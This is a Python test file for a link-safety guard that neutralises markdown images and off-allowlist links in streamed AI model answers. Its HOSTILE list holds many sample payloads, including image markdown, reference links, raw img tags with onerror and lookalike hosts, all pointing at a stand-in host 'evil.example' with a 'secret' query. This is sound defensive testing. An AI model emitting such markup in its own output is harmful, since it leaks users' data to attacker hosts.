"""Assistant text made safe to render: hostile markdown in, nothing fetchable out, streamed too."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from vaultra_mcp.core.answer_guard import AnswerGuard
from vaultra_mcp.core.link_safety import (
    LinkPolicy,
    escape_all,
    is_safe,
    neutralise,
)

POLICY = LinkPolicy.of(
    ["https://docs.stripe.com/capital", "https://www.clear.co/faq/"], "http://testserver"
)
EVIL = "https://evil.example/?d=secret"


def rendered(text: str) -> str:
    """What a CommonMark client would build from ``text`` (HTML allowed, as a careless one does)."""
    return MarkdownIt("commonmark").render(text)


def hrefs(text: str) -> list[str]:
    return [html.unescape(h) for h in re.findall(r'href="([^"]*)"', rendered(text))]


def renders_safely(text: str) -> bool:
    """Judged on the HTML a renderer makes, independently of how the neutraliser works."""
    page = rendered(text)
    return "<img" not in page and all(POLICY.allows(h) for h in hrefs(text))


HOSTILE = [
    f"![x]({EVIL})",
    f'![x]({EVIL} "title")',
    f"![x](<{EVIL}>)",
    f"![x][r]\n\n[r]: {EVIL}\n",
    f"![x][]\n\n[x]: {EVIL}\n",
    f"![x]\n\n[x]: {EVIL}\n",
    f'<img src="{EVIL}">',
    f"text <img src='{EVIL}' onerror=alert(1)> text",
    f'<p>\n<img src="{EVIL}">\n</p>',
    f"> quoted ![x]({EVIL})",
    f"- item\n  - nested ![x]({EVIL})",
    f"# heading ![x]({EVIL}) #",
    f"[![x]({EVIL})](https://docs.stripe.com/capital)",
    f"![![x]({EVIL})]({EVIL})",
    f"**bold ![x]({EVIL})**",
    f"a\tb ![x]({EVIL})\n\t- ![y]({EVIL})",
    f"line one\r\n![x]({EVIL})",
    f"nul\0 ![x]({EVIL})",
    f"<{EVIL}>",
    "[docs](https://docs.stripe.com.evil.example/)",
    "[docs](https://user@docs.stripe.com/@evil.example)",
    f"[click]({EVIL})",
    f"[click][r]\n\n[r]: {EVIL}",
    "[relative](/api/v1/auth/logout)",
    "[plain http](http://docs.stripe.com/capital)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_no_image_and_no_link_off_the_allowlist(text):
    safe = neutralise(text, POLICY)

    assert renders_safely(safe)
    assert is_safe(safe, POLICY)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_hostile_text_is_judged_unsafe_as_it_is(text):
    assert not is_safe(text, POLICY)


def test_an_image_keeps_its_alt_text_and_says_it_is_not_shown():
    assert neutralise(f"Hello ![logo]({EVIL}) there", POLICY) == (
        "Hello (image not shown: logo) there"
    )


def test_a_link_to_another_host_becomes_its_text():
    assert neutralise(f"See [this page]({EVIL}).", POLICY) == "See this page."


def test_an_autolink_to_another_host_loses_its_scheme_so_nothing_links_it_again():
    assert neutralise(f"Go to <{EVIL}>", POLICY) == "Go to evil.example/?d=secret"


def test_links_to_cited_sources_and_the_app_itself_survive():
    text = (
        "Read [Stripe Capital](https://docs.stripe.com/capital), "
        "[Clearco](https://clear.co/faq/) and [your report](http://testserver/report)."
    )

    assert neutralise(text, POLICY) == text


def test_links_inside_code_are_left_as_the_code_they_are():
    text = f"Use `![x]({EVIL})` literally."

    assert neutralise(text, POLICY) == text


def test_plain_text_passes_unchanged():
    text = "Your dispute rate is 2.19% [doc: stripe-capital]; aim for under 0.75%."

    assert neutralise(text, POLICY) == text


def test_escaping_everything_leaves_nothing_to_build_a_link_from():
    escaped = escape_all(f"![x]({EVIL}) [a]({EVIL}) <img src=x> \\[b]({EVIL})")

    assert hrefs(escaped) == []
    assert "<img" not in rendered(escaped)


def test_no_policy_keeps_no_link():
    assert neutralise("[Stripe](https://docs.stripe.com/capital)", LinkPolicy()) == "Stripe"


def stream(text: str, sizes: list[int]) -> tuple[list[str], AnswerGuard]:
    guard, shown, at, i = AnswerGuard(POLICY), [], 0, 0
    while at < len(text):
        size = sizes[i % len(sizes)]
        shown.append(guard.feed(text[at : at + size]))
        at, i = at + size, i + 1
    shown.append(guard.finish())
    return shown, guard


def test_an_image_split_across_chunks_is_never_shown():
    text = f"Before ![x]({EVIL}) after."

    pieces, guard = stream(text, [3])

    assert "".join(pieces) == guard.shown == "Before (image not shown: x) after."
    for n in range(1, len(pieces) + 1):
        assert renders_safely("".join(pieces[:n]))


def test_text_without_markup_streams_as_it_comes():
    pieces, _ = stream("Revenue grew 12% over the last quarter.", [4])

    assert all(pieces[:-1]) and pieces[-1] == ""


def test_text_before_a_link_is_shown_before_the_link_completes():
    guard = AnswerGuard(POLICY)

    assert guard.feed("Your score is 74. See [Str") == "Your score is 74. See "
    assert guard.feed("ipe](https://docs.stripe.com/capital) now") == (
        "[Stripe](https://docs.stripe.com/capital) now"
    )


def test_a_definition_arriving_after_its_use_never_turns_shown_text_into_an_image():
    _, guard = stream(f"![x][r] is shown first\n\n[r]: {EVIL}\n", [2])

    assert "<img" not in rendered(guard.shown)
    assert guard.shown.startswith("![x][r] is shown first")


FRAGMENTS = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "img src=",
        EVIL,
        "https://docs.stripe.com/x",
        "]:",
        "\n",
        "\n\n",
        " ",
        "text",
        "`",
        "\\",
        "!",
        "x",
        "- ",
        "> ",
        "    ",
        "\t",
        "1. ",
        "[r]",
        "[r]: ",
        "![x][r]",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30), st.lists(st.integers(1, 9), min_size=1, max_size=5))
def test_every_prefix_a_client_sees_of_any_stream_is_safe(fragments, sizes):
    pieces, guard = stream("".join(fragments), sizes)

    assert "".join(pieces) == guard.shown
    for n in range(1, len(pieces) + 1):
        assert renders_safely("".join(pieces[:n]))


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, max_size=30))
def test_neutralised_text_of_any_shape_is_safe(fragments):
    assert renders_safely(neutralise("".join(fragments), POLICY))
